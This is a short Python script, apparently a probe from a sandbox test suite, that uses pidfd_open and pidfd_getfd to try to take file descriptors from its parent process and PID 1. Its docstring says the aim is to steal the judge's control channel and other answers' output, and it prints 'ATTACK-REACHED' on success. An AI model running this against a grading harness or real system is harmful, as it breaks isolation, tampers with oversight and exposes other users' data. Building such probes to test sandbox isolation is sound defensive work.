"""Takes descriptors out of its ancestors with pidfd_getfd: the judge's control, other answers' lines."""
# needs: rootless
import ctypes
import os

PIDFD_OPEN, PIDFD_GETFD, KCMP = 434, 438, {"x86_64": 312, "aarch64": 272}
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1} - {0}:
    handle = libc.syscall(PIDFD_OPEN, pid, 0)
    if handle < 0:
        continue
    for fd in range(64):
        stolen = libc.syscall(PIDFD_GETFD, handle, fd, 0)
        if stolen >= 0:
            print("ATTACK-REACHED descriptor", fd, "of", pid)
            os.close(stolen)
            break
